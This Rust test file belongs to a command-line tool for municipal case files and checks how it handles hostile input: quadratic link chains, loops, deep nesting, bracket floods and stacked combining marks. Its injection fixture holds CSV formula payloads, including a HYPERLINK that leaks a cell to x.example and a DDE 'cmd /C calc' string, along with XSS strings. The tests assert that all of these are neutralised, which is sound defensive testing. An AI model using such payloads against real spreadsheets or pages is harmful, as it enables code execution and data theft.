//! Hostile shapes of input, through the real binary: paths that were quadratic, errors that
//! lacked a place, exports that could run code elsewhere.

use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

fn remiss(dir: &Path, args: &[&str]) -> Output {
    crate::cmd::remiss_in(dir)
        .args(args)
        .env("REMISS_NO_CACHE", "1")
        .output()
        .unwrap()
}

/// A case whose positions 1..n are each `identical_to` the one before; position 0 has text.
fn chain_case(n: usize) -> String {
    let mut s = String::from(
        "format = 1\n[case]\ndnr = \"KS 1/1\"\ntitle = \"Kedja\"\nkind = \"motion\"\n\
         [[parties]]\ncode = \"M\"\nname = \"Moderaterna\"\n\
         [[bodies]]\nid = \"a\"\nname = \"A-nämnden\"\nkind = \"committee\"\n\
         [[positions]]\nid = \"p0\"\nbody = \"a\"\nstance = \"reservation\"\n\
         text = \"Den enda texten i kedjan.\"\n",
    );
    for i in 1..n {
        s.push_str(&format!(
            "[[positions]]\nid = \"p{i}\"\nbody = \"a\"\nstance = \"reservation\"\nidentical_to = \"p{}\"\n",
            i - 1
        ));
    }
    s
}

#[test]
fn a_chain_of_10000_identical_to_links_is_checked_well_under_a_second() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("chain.toml"), chain_case(10_000)).unwrap();
    let out = remiss(dir.path(), &["check", "chain.toml"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // The last link reads the first text.
    let out = remiss(dir.path(), &["diff", "chain.toml", "p0", "p9999"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("100% the same; 0 changes"), "{text}");
    // Timed in the process (best of 3; the machine is shared): quadratic, this took 4 s in a
    // release build (20 s in a debug one); linear, a release build needs about 50 ms (`cargo
    // bench --bench hostile`), a debug build on a loaded machine under half a second. And 4
    // times the links take about 4 times as long, not 16.
    let best = |n: usize| {
        let src = chain_case(n);
        (0..3)
            .map(|_| {
                let start = Instant::now();
                let case = remiss::model::parse_case(&src, "chain.toml", "chain").unwrap();
                assert_eq!(case.text_of(n - 1).len(), 1);
                start.elapsed()
            })
            .min()
            .unwrap()
    };
    let (small, large) = (best(2_500), best(10_000));
    eprintln!("identical_to chain: 2,500 links {small:?}, 10,000 links {large:?}");
    assert!(large < Duration::from_secs(2), "10,000 links: {large:?}");
    assert!(
        large < small * 10,
        "2,500 links {small:?}, 10,000 links {large:?}: not linear"
    );
}

#[test]
fn a_loop_of_links_is_an_error_at_each_position_on_it() {
    let dir = tempfile::tempdir().unwrap();
    let src = chain_case(4).replace(
        "text = \"Den enda texten i kedjan.\"\n",
        "identical_to = \"p3\"\n",
    );
    std::fs::write(dir.path().join("loop.toml"), src).unwrap();
    let out = remiss(dir.path(), &["check", "loop.toml"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(
        err.matches("`identical_to` links form a loop").count(),
        4,
        "{err}"
    );
}

/// A case whose names and texts are written to attack a spreadsheet or a Markdown renderer.
const INJECTION: &str = r#"format = 1
[case]
dnr = "=HYPERLINK(\"http://x.example/?\"&A1)"
title = "[klicka här](javascript:alert(1)) <script>alert(2)</script>"
kind = "motion"
[[parties]]
code = "=1+2"
name = "@SUM(A1:A9)"
[[parties]]
code = "-2+3"
name = "Minus"
[[bodies]]
id = "a"
name = "+cmd|' /C calc'!A0"
kind = "committee"
[[bodies]]
id = "b"
name = "<img src=x onerror=alert(3)>"
kind = "committee"
[[positions]]
id = "a`<img/src=x/onerror=alert(4)>`"
body = "a"
stance = "reservation"
parties = ["=1+2"]
text = "<iframe src=javascript:alert(5)></iframe> [x](javascript:alert(6)) ![i](javascript:alert(7)) <javascript:alert(8)> &lt;b&gt;"
[[positions]]
body = "b"
stance = "special_statement"
parties = ["-2+3"]
text = "@rest"
"#;

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("x.toml"), INJECTION).unwrap();
    for lens in ["stance", "party"] {
        let out = remiss(
            dir.path(),
            &["matrix", "x.toml", "--format", "csv", "--by", lens],
        );
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(&out.stdout[..]);
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{lens}: a formula cell: {cell:?}"
                );
            }
        }
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(cells > 10, "{text}");
        // Neutralised, not removed: the text is all there behind the quote.
        assert!(text.contains("'+cmd|' /C calc'!A0"), "{text}");
        if lens == "party" {
            assert!(text.contains("'=1+2") && text.contains("'-2+3"), "{text}");
        }
    }
}

/// Parse `markdown` as CommonMark (with GFM tables) and fail on any raw HTML, any link or
/// image, any autolink.
#[track_caller]
fn assert_inert_markdown(what: &str, markdown: &str) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES) {
        match &event {
            Event::Html(_) | Event::InlineHtml(_) => panic!("{what}: raw HTML {event:?}"),
            Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock) => {
                panic!("{what}: {event:?} in\n{markdown}")
            }
            _ => {}
        }
    }
}

#[test]
fn markdown_exports_show_html_and_links_as_text() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("x.toml"), INJECTION).unwrap();
    for lens in ["stance", "party"] {
        let out = remiss(
            dir.path(),
            &["matrix", "x.toml", "--format", "markdown", "--by", lens],
        );
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        assert_inert_markdown(lens, &String::from_utf8_lossy(&out.stdout));
    }
    let out = remiss(
        dir.path(),
        &[
            "notes",
            "x.toml",
            "--heading",
            "<b>Rubrik</b> [l](javascript:alert(9))",
            "--add",
            "a`<img/src=x/onerror=alert(4)>`",
            "--comment",
            "<script>alert(10)</script>",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let notes = String::from_utf8_lossy(&out.stdout);
    assert_inert_markdown("notes", &notes);
    // The text reads as written once rendered.
    let rendered: String = pulldown_cmark::Parser::new(&notes)
        .filter_map(|e| match e {
            pulldown_cmark::Event::Text(t) | pulldown_cmark::Event::Code(t) => Some(t.to_string()),
            _ => None,
        })
        .collect();
    assert!(
        rendered.contains("<iframe src=javascript:alert(5)></iframe>"),
        "{rendered}"
    );
    assert!(rendered.contains("&lt;b&gt;"), "{rendered}");
    assert!(
        rendered.contains("a`<img/src=x/onerror=alert(4)>`"),
        "{rendered}"
    );
}

#[test]
fn errors_without_a_place_now_have_one() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // Keys dotted 3,000 times: the parser's recursion limit, which gives no place itself.
    let deep = format!("format = 1\n{} = 1\n", vec!["x"; 3000].join("."));
    std::fs::write(d.join("deep.toml"), deep).unwrap();
    std::fs::write(d.join("empty.toml"), "\n\n").unwrap();
    let out = remiss(d, &["check", "deep.toml", "empty.toml"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("deep.toml:2:1: error: keys or tables nested too deeply"),
        "{err}"
    );
    assert!(
        err.contains("empty.toml:1:1: error: the file is empty"),
        "{err}"
    );
    // The same case id in two files of a folder: at the second file's `id`.
    let folder = d.join("cases");
    std::fs::create_dir(&folder).unwrap();
    let case = include_str!("../../cases/trygghetskiosker.toml");
    std::fs::write(folder.join("a.toml"), case).unwrap();
    std::fs::write(folder.join("b.toml"), case).unwrap();
    let out = remiss(d, &["check", "cases"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        err.contains("b.toml:4:6: error: case id `trygghetskiosker` is already used by"),
        "{err}"
    );
    // Without an explicit id (it comes from the file name): at the [case] table.
    std::fs::write(
        folder.join("a.toml"),
        case.replace("id = \"trygghetskiosker\"", "id = \"b\""),
    )
    .unwrap();
    std::fs::write(
        folder.join("b.toml"),
        case.replace("id = \"trygghetskiosker\"\n", ""),
    )
    .unwrap();
    let out = remiss(d, &["check", "cases"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("b.toml:3:1: error: case id `b` is already used"),
        "{err}"
    );
}

/// A body's name with 1,000 combining marks on one letter prints as wide as without them (the
/// app's matrix: `tests/tui/screens.rs`).
#[test]
fn stacked_combining_marks_do_not_widen_the_printed_matrix() {
    let plain = include_str!("../../cases/trygghetskiosker.toml");
    let zalgo = plain.replacen(
        "name = \"Socialnämnden\"",
        &format!("name = \"Socia{}lnämnden\"", "\u{301}".repeat(1000)),
        1,
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("z.toml"), &zalgo).unwrap();
    std::fs::write(dir.path().join("p.toml"), plain).unwrap();
    let widths = |name: &str| {
        let out = remiss(dir.path(), &["matrix", name]);
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .map(remiss::text::width)
            .collect::<Vec<_>>()
    };
    assert_eq!(widths("z.toml"), widths("p.toml"));
}

/// A position followed by lines of arrays nested 60 deep: every byte a token of the parser.
/// Parsed as it was, 2 MB of it took the toml crate about 300 MB (19 MB: 3 GB); the table
/// is refused before it is parsed, at the place where it crosses the limit.
#[test]
fn a_table_of_millions_of_brackets_is_refused_with_its_place_before_it_is_parsed() {
    let dir = tempfile::tempdir().unwrap();
    let mut src = chain_case(1);
    let line = format!("n = {}{}\n", "[".repeat(60), "]".repeat(60));
    let header_lines = src.lines().count();
    // 125 tokens a line (`n`, two spaces, `=`, 120 brackets, the line end): 2,000,000 tokens
    // are crossed on about the 16,000th of them.
    src.push_str(&line.repeat(16_200));
    std::fs::write(dir.path().join("nested.toml"), &src).unwrap();
    let start = Instant::now();
    let out = remiss(dir.path(), &["check", "nested.toml"]);
    let took = start.elapsed();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let line_no: usize = err
        .strip_prefix("nested.toml:")
        .and_then(|rest| rest.split(':').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("a place in {err}"));
    let crossed = line_no - header_lines;
    assert!((15_950..16_050).contains(&crossed), "line {line_no}: {err}");
    assert!(
        err.contains("more than 2,000,000 values, brackets and separators"),
        "{err}"
    );
    assert!(took < Duration::from_secs(10), "{took:?}");
    // The same in a notes file, which is parsed whole.
    std::fs::write(dir.path().join("case.toml"), chain_case(1)).unwrap();
    let notes = format!("format = 1\n{}", line.repeat(16_200));
    std::fs::write(dir.path().join("notes.toml"), notes).unwrap();
    let out = remiss(dir.path(), &["notes", "case.toml", "--notes", "notes.toml"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("more than 2,000,000"), "{err}");
}
